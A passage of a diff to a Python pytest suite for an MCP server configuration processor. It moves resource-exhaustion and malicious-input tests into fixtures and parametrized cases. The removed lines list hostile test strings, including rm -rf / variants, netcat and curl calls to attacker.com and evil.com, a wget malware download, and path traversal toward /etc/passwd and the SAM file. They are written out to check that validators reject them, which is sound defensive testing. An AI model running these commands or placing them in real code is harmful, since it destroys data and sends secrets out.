-                    if i >= 10:  # Test with ~100MB allocated
-                        break
-                        
-        except MemoryError:
-            # This is expected when we exhaust memory
-            pass
         finally:
             # Clean up memory
-            large_objects.clear()
+            del large_object
 
-    def test_file_descriptor_exhaustion(self):
+    @pytest.mark.resource_hog
+    def test_file_descriptor_exhaustion(self, tmp_path):
         """Test handling when file descriptors are exhausted."""
         # Get current limit
         import resource
@@ -613,36 +519,33 @@ class TestResourceExhaustionErrors:
             # Set a low file descriptor limit
             resource.setrlimit(resource.RLIMIT_NOFILE, (20, original_limit[1]))
             
-            with tempfile.TemporaryDirectory() as temp_dir:
-                data_dir = Path(temp_dir)
-                mcp_dir = data_dir / "mcp_servers"
-                mcp_dir.mkdir()
-
-                # Create many files
-                for i in range(50):  # More than our limit
-                    config = {
-                        "name": f"fd-exhaustion-server-{i}",
-                        "display_name": f"FD Exhaustion Server {i}",
-                        "description": "Server for FD exhaustion testing",
-                        "category": "development",
-                        "server": {"command": "test", "args": []},
-                        "security": {"trust_level": "trusted", "network_access": False},
-                        "development": {"status": "stable"}
-                    }
-                    
-                    with open(mcp_dir / f"fd-exhaustion-server-{i}.yaml", 'w') as f:
-                        yaml.dump(config, f)
+            data_dir = tmp_path
+            mcp_dir = data_dir / "mcp_servers"
+            mcp_dir.mkdir()
 
-                processor = MCPProcessor(data_dir)
-                
-                # Should handle FD exhaustion gracefully
-                try:
-                    all_servers = processor.load_all_mcp_servers()
-                    # May not load all servers due to FD limit
-                    assert len(all_servers) > 0
-                except OSError as e:
-                    # Expected when FDs exhausted
-                    assert "Too many open files" in str(e) or "file descriptor" in str(e).lower()
+            # Render many files first, then write each with one call
+            rendered = []
+            for i in range(50):  # More than our limit
+                config = _mk_config(f"fd-exhaustion-server-{i}")
+
+                rendered.append((
+                    mcp_dir / f"fd-exhaustion-server-{i}.yaml",
+                    yaml.dump(config, Dumper=_Dumper).encode()
+                ))
+
+            for path, payload in rendered:
+                path.write_bytes(payload)
+
+            processor = MCPProcessor(data_dir)
+
+            # Should handle FD exhaustion gracefully
+            try:
+                all_servers = processor.load_all_mcp_servers()
+                # May not load all servers due to FD limit
+                assert len(all_servers) > 0
+            except OSError as e:
+                # Expected when FDs exhausted
+                assert "Too many open files" in str(e) or "file descriptor" in str(e).lower()
                     
         finally:
             # Restore original limit
@@ -652,109 +555,66 @@ class TestResourceExhaustionErrors:
 class TestMaliciousInputHandling:
     """Test handling of potentially malicious inputs."""
 
-    def test_script_injection_prevention(self):
+    @pytest.fixture(scope="class")
+    def injection_processor(self, tmp_path_factory):
+        """One processor over a data dir holding every injection attempt."""
+        mcp_dir = tmp_path_factory.mktemp("injection") / "mcp_servers"
+        mcp_dir.mkdir()
+
+        for i, injection in enumerate(INJECTION_ATTEMPTS):
+            config = _mk_config(
+                f"injection-test-{i}",
+                description=f"Server with injection attempt: {injection}",
+                server={"command": "test", "args": [injection]},  # Injection in args
+                environment={
+                    "variables": {
+                        "INJECTION_VAR": {
+                            "source": "command",
+                            "command": f"echo {injection}",  # Injection in command
+                            "required": False
+                        }
+                    }
+                },
+                security={"trust_level": "untrusted"},
+                development={"status": "experimental"}
+            )
+
+            with open(mcp_dir / f"injection-test-{i}.yaml", 'w') as f:
+                yaml.dump(config, f, Dumper=_Dumper)
+
+        return MCPProcessor(mcp_dir.parent)
+
+    @pytest.mark.parametrize("injection", INJECTION_ATTEMPTS, ids=lambda s: repr(s)[:30])
+    def test_script_injection_prevention(self, injection_processor, injection):
         """Test prevention of script injection in configuration values."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers"
-            mcp_dir.mkdir()
+        processor = injection_processor
+        server_name = f"injection-test-{INJECTION_ATTEMPTS.index(injection)}"
 
-            # Test various injection attempts
-            injection_attempts = [
-                "'; rm -rf /; echo '",
-                "$(rm -rf /)",
-                "`rm -rf /`",
-                "${IFS}rm${IFS}-rf${IFS}/",
-                "| nc attacker.com 4444",
-                "&& curl attacker.com/steal",
-                "; wget -O /tmp/evil http://evil.com/malware",
-                "' OR '1'='1",
-                "<script>alert('xss')</script>",
-                "../../../etc/passwd",
-                "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"
-            ]
-
-            for i, injection in enumerate(injection_attempts):
-                config = {
-                    "name": f"injection-test-{i}",
-                    "display_name": f"Injection Test {injection}",
-                    "description": f"Server with injection attempt: {injection}",
-                    "category": "development",
-                    "server": {
-                        "command": "test",
-                        "args": [injection]  # Injection in args
-                    },
-                    "environment": {
-                        "variables": {
-                            "INJECTION_VAR": {
-                                "source": "command",
-                                "command": f"echo {injection}",  # Injection in command
-                                "required": False
-                            }
-                        }
-                    },
-                    "security": {"trust_level": "untrusted", "network_access": False},
-                    "development": {"status": "experimental"}
-                }
-                
-                with open(mcp_dir / f"injection-test-{i}.yaml", 'w') as f:
-                    yaml.dump(config, f)
-
-                processor = MCPProcessor(data_dir)
-                
-                # Should detect and reject dangerous inputs
-                result = processor.validate_mcp_server(f"injection-test-{i}")
-                
-                # Should either reject or safely handle injection attempts
-                if result.is_valid:
-                    # If considered valid, processing should be safe
-                    server_def = processor.load_mcp_server(f"injection-test-{i}")
-                    claude_config = processor.process_for_claude_code(server_def)
-                    
-                    # Verify no actual injection occurred
-                    config_str = str(claude_config)
-                    assert "rm -rf /" not in config_str
-                    assert "nc attacker.com" not in config_str
+        # Should detect and reject dangerous inputs
+        result = processor.validate_mcp_server(server_name)
 
-    def test_path_traversal_prevention(self):
+        # Should either reject or safely handle injection attempts
+        if result.is_valid:
+            # If considered valid, processing should be safe
+            server_def = processor.load_mcp_server(server_name)
+            claude_config = processor.process_for_claude_code(server_def)
+
+            # Verify no actual injection occurred
+            config_str = str(claude_config)
+            assert "rm -rf /" not in config_str
+            assert "nc attacker.com" not in config_str
+
+    @pytest.mark.parametrize("attempt", PATH_TRAVERSAL_ATTEMPTS, ids=lambda s: repr(s)[:30])
+    def test_path_traversal_prevention(self, injector, attempt):
         """Test prevention of path traversal attacks."""
-        injector = EnvironmentInjector()
-        
-        path_traversal_attempts = [
-            "../../../etc/passwd",
-            "..\\..\\..\\windows\\system32\\config\\sam",
-            "/etc/passwd",
-            "C:\\Windows\\System32\\config\\SAM",
-            "....//....//....//etc//passwd",
-            "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
-            "..%252f..%252f..%252fetc%252fpasswd",
-            "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"
-        ]
-
-        for attempt in path_traversal_attempts:
-            # Should reject all path traversal attempts
-            assert not injector._validate_file_path(attempt), f"Should reject path traversal: {attempt}"
-
-    def test_command_injection_prevention(self):
+        # Should reject all path traversal attempts
+        assert not injector._validate_file_path(attempt)
+
+    @pytest.mark.parametrize("attempt", COMMAND_INJECTION_ATTEMPTS, ids=lambda s: repr(s)[:30])
+    def test_command_injection_prevention(self, injector, attempt):
         """Test prevention of command injection attacks."""
-        injector = EnvironmentInjector()
-        
-        command_injection_attempts = [
-            "whoami; rm -rf /",
-            "whoami && cat /etc/passwd", 
-            "whoami || wget evil.com/script",
-            "whoami | nc attacker.com 4444",
-            "whoami > /dev/null; curl evil.com",
-            "whoami `cat /etc/passwd`",
-            "whoami $(curl evil.com/cmd)",
-            "eval(\"import os; os.system('rm -rf /')\")",
-            "/bin/bash -c 'rm -rf /'",
-            "python -c \"__import__('os').system('rm -rf /')\""
-        ]
-
-        for attempt in command_injection_attempts:
-            # Should reject all command injection attempts
-            assert not injector._validate_command(attempt), f"Should reject command injection: {attempt}"
+        # Should reject all command injection attempts
+        assert not injector._validate_command(attempt)
 
 
 if __name__ == "__main__":